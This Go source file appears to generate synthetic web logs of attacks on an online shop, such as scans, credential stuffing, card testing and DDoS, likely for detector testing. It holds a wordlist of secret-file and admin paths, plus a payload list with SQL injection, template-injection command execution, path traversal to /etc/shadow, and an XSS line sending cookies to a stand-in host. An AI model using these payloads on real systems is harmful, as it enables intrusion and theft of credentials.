package main

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// attacker registers an attacking client. Some imitate browsers: a real
// browser user agent and header size, and ordinary browsing before they
// start; the others are scripts from hosting addresses.
func (w *world) attacker(kind string, r *rand.Rand) *actor {
	browser := Chance(r, .5)
	var ip string
	switch {
	case browser && Chance(r, .6):
		ip = w.log.V4(r, homeV4) // residential proxy
	case Chance(r, .12):
		ip = w.log.V6In(r, V6Net(r, homeV6))
	default:
		ip = w.log.V4(r, hostV4)
	}
	a := &actor{w: w, c: w.log.Client(ip, kind), r: r}
	if browser {
		a.ua, a.hdr = browserUA(r), 650+r.IntN(800)
	} else {
		a.ua, a.hdr = Pick(r, []string{"python-requests/2.31.0", "Go-http-client/1.1", "curl/8.4.0", "okhttp/3.14.9", "Python-urllib/3.11", "node-fetch/2.7.0", ""}), 120+r.IntN(150)
	}
	return a
}

// cover browses like a visitor before the attack starts, so the client
// has an ordinary history.
func (w *world) cover(a *actor, t int64) {
	if a.ua != "" && strings.HasPrefix(a.ua, "Mozilla") && Chance(a.r, .6) {
		w.session(a, t-Sec(Uniform(a.r, 40, 300)), 2+a.r.IntN(4), false)
	}
}

func (w *world) onset(r *rand.Rand, lo, hi float64) int64 {
	return Sec(Uniform(r, lo, hi) * float64(w.W) / 1e9)
}

// flood: one address hammering a handful of ordinary pages; the site
// serves them.
func (w *world) flood(r *rand.Rand) {
	a := w.attacker("flood", r)
	t := w.onset(r, .05, .8)
	w.cover(a, t)
	a.atk = true
	rate := LogUniform(r, 13, 260)
	end := t + Sec(min(Uniform(r, 30, 240), 15000/rate))
	var targets []string
	for range 1 + r.IntN(4) {
		targets = append(targets, Pick(r, []string{"/", "/c/" + Pick(r, w.cats), "/p/" + w.sku(r), "/search?q=" + q(Pick(r, queries)), "/api/recs?sku=" + w.sku(r), "/sale/" + w.saleSlug}))
	}
	steady := Chance(r, .5)
	for ; t < end; t += gap(r, rate, steady) {
		path := Pick(r, targets)
		rc := rPage
		if strings.HasPrefix(path, "/p/") {
			rc = rProduct
		}
		st := 200
		if Chance(r, .03) {
			st = 503
		}
		a.send(t, "GET", path, rc, st, 0)
	}
}

// gap is the time to the next request at rate per second: a fixed beat
// (a loop with a sleep) or a Poisson process (many workers).
func gap(r *rand.Rand, rate float64, steady bool) int64 {
	if steady {
		return Sec(Uniform(r, .9, 1.1) / rate)
	}
	return Sec(r.ExpFloat64() / rate)
}

var scanWords = strings.Fields(`/.env /.env.local /.env.bak /.git/HEAD /.git/config /config/database.yml /app/etc/env.php /app/etc/local.xml /downloader/ /magento_version /admin /admin/ /admin123 /backend /wp-login.php /wp-json/wc/v3/orders /wp-content/debug.log /xmlrpc.php /shop/admin /store/admin /.well-known/openid-configuration /phpinfo.php /info.php /server-info /server-status /composer.json /composer.lock /package.json /yarn.lock /.npmrc /.DS_Store /backup.tar.gz /shop.sql /dump.sql.gz /db_backup.zip /api/v1/admin/users /api/internal/config /api/graphql /graphql /_debugbar/open /telescope /horizon /actuator/health /actuator/heapdump /swagger.json /openapi.yaml /api-docs /console /solr/ /elasticsearch/_cat/indices /jmx-console/ /manager/html /cgi-bin/php-cgi /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /index.php?route=extension/payment /checkout/onepage/ /skin/frontend/default/ /var/export/ /media/customer/ /errors/local.xml /storage/logs/laravel.log /.aws/config /id_rsa /.ssh/authorized_keys /crossdomain.xml /clientaccesspolicy.xml /robots.txt /sitemap.xml /.well-known/security.txt`)

func scanStatus(r *rand.Rand, path string) int {
	switch {
	case path == "/robots.txt" || path == "/sitemap.xml" || path == "/.well-known/security.txt":
		return 200
	case strings.Contains(path, "admin") || strings.Contains(path, "backoffice") || strings.HasPrefix(path, "/.git"):
		return Pick(r, []int{403, 403, 404})
	case strings.HasPrefix(path, "/api/"):
		return Pick(r, []int{401, 404})
	}
	return 404
}

// scan: a wordlist of shop platforms' and frameworks' secrets and panels.
func (w *world) scan(r *rand.Rand) {
	a := w.attacker("scan", r)
	t := w.onset(r, .02, .85)
	w.cover(a, t)
	a.atk = true
	rate, steady := LogUniform(r, .2, 25), Chance(r, .5)
	words := append([]string(nil), scanWords...)
	r.Shuffle(len(words), func(i, j int) { words[i], words[j] = words[j], words[i] })
	n := int(LogUniform(r, 40, 900))
	for i := 0; i < n && t < w.W; i, t = i+1, t+gap(r, rate, steady) {
		path := words[i%len(words)]
		if i >= len(words) { // then variations on backups and panels
			path = "/" + Pick(r, []string{"backup", "old", "shop", "store", "www", "staging", "larkspur"}) + Pick(r, []string{".zip", ".tar.gz", ".sql", "/admin", "/.env", "/wp-login.php", ".bak"})
		}
		m := "GET"
		if Chance(r, .05) {
			m = "HEAD"
		}
		a.send(t, m, path, rPage, scanStatus(r, path), 0)
	}
}

// bruteforce: password guessing against one or a few accounts.
func (w *world) bruteforce(r *rand.Rand) {
	a := w.attacker("bruteforce", r)
	t := w.onset(r, .05, .8)
	w.cover(a, t)
	if strings.HasPrefix(a.ua, "Mozilla") {
		a.send(t-Sec(Uniform(r, 1, 5)), "GET", "/account/login", rPage, 200, 0)
	}
	a.atk = true
	rate, steady := LogUniform(r, .3, 6), Chance(r, .5)
	end := t + Sec(Uniform(r, 60, 420))
	path := Pick(r, []string{"/account/login", "/account/login", "/api/m/auth/login"})
	for ; t < end; t += gap(r, rate, steady) {
		st := 401
		if Chance(r, .05) {
			st = 403 // account locked
		}
		a.send(t, "POST", path, rLogin, st, int64(Uniform(r, 90, 170)))
	}
}

var payloads = [][]string{
	{"' OR 1=1--", "1' AND SLEEP(4)#", "x' UNION SELECT username,password FROM users--", "1)) OR ((1=1", "'; EXEC xp_cmdshell('dir')--", "1 AND 1=CONVERT(int,@@version)", "\" OR \"\"=\"", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--"},
	{"<script>alert(document.cookie)</script>", "<img src=x onerror=fetch('//x.example/'+document.cookie)>", "\"><svg onload=alert(1)>", "javascript:alert(1)//", "<body onpageshow=alert(1)>", "'><a href=javascript:confirm(1)>x</a>"},
	{"{{7*'7'}}", "${7*7}", "{{constructor.constructor('return process')()}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{{request.application.__globals__}}", "@(1+2)"},
	{"../../../etc/passwd", "..%2F..%2F..%2Fetc%2Fpasswd", "....//....//etc/hosts", "..\\..\\..\\boot.ini", "/var/www/../../etc/shadow", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ"},
}

// encodePayload writes a payload into a query value as real tools do:
// nearly raw, URL-encoded once, or twice.
func encodePayload(r *rand.Rand, s string) string {
	return EncodeQuery(r, s, rawQuery, .3, .8)
}

// rawQuery escapes what would break a query value written raw.
var rawQuery = strings.NewReplacer(" ", "+", "#", "%23", "&", "%26")

// injection: a signed-in member browsing normally, with payloads in the
// query values of 15-40% of the calls.
func (w *world) injection(r *rand.Rand) {
	a := w.attacker("injection", r)
	a.ua, a.hdr = browserUA(r), 700+r.IntN(700)
	a.name = Pick(r, firstNames) + "." + Pick(r, lastNames) + strconv.Itoa(r.IntN(1000))
	t := w.onset(r, .02, .6)
	t = w.login(a, t-Sec(Uniform(r, 20, 90)))
	share := Uniform(r, .15, .4)
	classes := r.Perm(len(payloads))[:1+r.IntN(len(payloads))]
	end := t + Sec(Uniform(r, 120, 600))
	pace := Uniform(r, 1.5, 8)
	for ; t < end && t < w.W; t += Sec(r.ExpFloat64() * pace) {
		if !Chance(r, share) {
			a.atk = false
			w.screen(a, t, false)
			continue
		}
		a.atk = true
		p := encodePayload(r, Pick(r, payloads[Pick(r, classes)]))
		st := Pick(r, []int{200, 200, 200, 400, 400, 500})
		switch Pick(r, []int{0, 1, 2, 3, 4}) {
		case 0:
			a.send(t, "GET", "/search?q="+p, rSearch, st, 0)
		case 1:
			a.send(t, "GET", fmt.Sprintf("/c/%s?page=1&sort=%s", Pick(r, w.cats), p), rPage, st, 0)
		case 2:
			a.send(t, "GET", "/api/recs?sku="+p+"&n=12", rAPI, st, 0)
		case 3:
			a.send(t, "GET", "/account/orders?page=1&status="+p, rAccount, st, 0)
		default:
			a.send(t, "GET", "/api/reviews?sku="+w.sku(r)+"&page=1&sort="+p, rAPI, st, 0)
		}
	}
}

// upload: oversized review photos or return documents a few times a minute.
func (w *world) upload(r *rand.Rand) {
	a := w.attacker("upload", r)
	a.name = Pick(r, firstNames) + strconv.Itoa(r.IntN(10000))
	a.user = a.name
	t := w.onset(r, .02, .7)
	w.cover(a, t)
	a.atk = true
	per := Uniform(r, 2, 6) / 60
	end := t + Sec(Uniform(r, 180, 600))
	path := Pick(r, []string{"/api/reviews/" + w.sku(r) + "/photos", fmt.Sprintf("/api/returns/%d/documents", w.orderMax-r.IntN(50000))})
	for ; t < end && t < w.W; t += Sec(r.ExpFloat64() / per) {
		body := int64(Uniform(r, 5, 60) * (1 << 20))
		st := 201
		if body > w.uploadLimit {
			st = 413
		}
		a.send(t, "POST", path, rUpload, st, body)
	}
}

// enumeration: walks order confirmations, gift card codes or wishlists.
func (w *world) enumeration(r *rand.Rand) {
	a := w.attacker("enumeration", r)
	t := w.onset(r, .02, .75)
	w.cover(a, t)
	a.atk = true
	rate, steady := LogUniform(r, .3, 8), Chance(r, .5)
	id, step := w.orderMax-r.IntN(100000), Pick(r, []int{1, 1, 1, 2, -1})
	mode := r.IntN(3)
	for i, n := 0, int(LogUniform(r, 60, 1500)); i < n && t < w.W; i, t, id = i+1, t+gap(r, rate, steady), id+step {
		switch mode {
		case 0:
			st := Pick(r, []int{403, 403, 403, 404, 200})
			a.send(t, "GET", fmt.Sprintf("/order/%d/confirmation", id), rAccount, st, 0)
		case 1:
			a.send(t, "GET", fmt.Sprintf("/api/giftcards/LK%08d/balance", id*7), rAPI, Pick(r, []int{404, 404, 404, 404, 200}), 0)
		default:
			a.send(t, "GET", fmt.Sprintf("/api/users/%d/wishlist", id/3), rAccount, Pick(r, []int{403, 403, 200, 404}), 0)
		}
	}
}

// campaign draws the name shared by the members of one campaign.
func campaign(r *rand.Rand, kind string) string { return kind + "-" + Hex(r, 6) }

// stuffing: leaked credentials tried from a rotating residential proxy
// pool, one attempt per address every 15-90 s, so that no address is busy.
func (w *world) stuffing(r *rand.Rand) {
	id := campaign(r, "stuffing")
	begin := w.onset(r, .02, .4)
	span := Sec(Uniform(r, 240, 600))
	for range 60 + r.IntN(21) {
		a := w.member(r, "stuffing", id)
		t := begin + Sec(Uniform(a.r, 0, 60))
		every := Uniform(a.r, 15, 90)
		if a.chance(.5) {
			a.atk = false
			a.send(t-Sec(Uniform(a.r, 1, 4)), "GET", "/account/login", rPage, 200, 0)
			a.atk = true
		}
		for ; t < begin+span; t += Sec(every * Uniform(a.r, .8, 1.2)) {
			st := Pick(a.r, []int{401, 401, 401, 401, 401, 401, 403, 403})
			if a.chance(.03) {
				st = 200
			}
			a.send(t, "POST", "/account/login", rLogin, st, int64(Uniform(a.r, 90, 170)))
			if st == 200 {
				a.send(t+Sec(.8), "GET", "/account/orders?page=1", rAccount, 200, 0)
			}
		}
	}
}

// member registers one address of a campaign: a residential proxy with a
// browser user agent.
func (w *world) member(r *rand.Rand, kind, id string) *actor {
	sr := Sub(r)
	ip := ""
	if Chance(sr, .15) {
		ip = w.log.V6In(sr, V6Net(sr, homeV6))
	} else {
		ip = w.log.V4(sr, append(homeV4, carrierV4...))
	}
	a := &actor{w: w, c: w.log.Client(ip, kind), r: sr, ua: browserUA(sr), hdr: 600 + sr.IntN(800), atk: true}
	a.c.Campaign = id
	return a
}

// cardtest: stolen card numbers checked with small guest orders, one
// payment attempt per address every 10-40 s, mostly declined.
func (w *world) cardtest(r *rand.Rand) {
	id := campaign(r, "cardtest")
	begin := w.onset(r, .02, .5)
	span := Sec(Uniform(r, 180, 480))
	cheap := w.sku(r)
	for range 20 + r.IntN(21) {
		a := w.member(r, "cardtest", id)
		t := begin + Sec(Uniform(a.r, 0, 90))
		a.send(t, "GET", "/p/"+cheap, rProduct, 200, 0)
		a.send(t+Sec(Uniform(a.r, 1, 4)), "POST", "/api/cart/lines", rCart, 201, 150)
		a.send(t+Sec(Uniform(a.r, 5, 9)), "POST", "/api/checkout", rCheckout, 201, int64(Uniform(a.r, 400, 700)))
		every := Uniform(a.r, 10, 40)
		for t += Sec(10); t < begin+span; t += Sec(every * Uniform(a.r, .8, 1.2)) {
			st := 402
			switch x := a.r.Float64(); {
			case x < .07:
				st = 200
			case x < .15:
				st = 400
			}
			a.send(t, "POST", "/api/payments/confirm", rPay, st, int64(Uniform(a.r, 500, 900)))
		}
	}
}

// ddos: a botnet joins the flash sale's spike, each address at a modest
// rate on the sale's own pages, so the attack hides in the crowd.
func (w *world) ddos(r *rand.Rand) {
	id := campaign(r, "ddos")
	begin := w.sale.a + Sec(Uniform(r, 0, .5)*float64(w.sale.b-w.sale.a)/1e9)
	span := Sec(Uniform(r, 60, 180))
	targets := []string{"/", "/sale/" + w.saleSlug, "/p/" + Pick(r, w.saleSKUs), "/search?q=" + q(Pick(r, queries))}
	for range 100 + r.IntN(101) {
		a := w.member(r, "ddos", id)
		if a.chance(.3) {
			a.ua = Pick(a.r, []string{"", "Mozilla/5.0", "Go-http-client/1.1"})
		}
		rate := Uniform(a.r, .3, 2)
		for t := begin + Sec(Uniform(a.r, 0, 20)); t < begin+span; t += Sec(a.r.ExpFloat64() / rate) {
			st := 200
			if a.chance(.05) {
				st = 503
			}
			a.send(t, "GET", Pick(a.r, targets), rPage, st, 0)
		}
	}
}
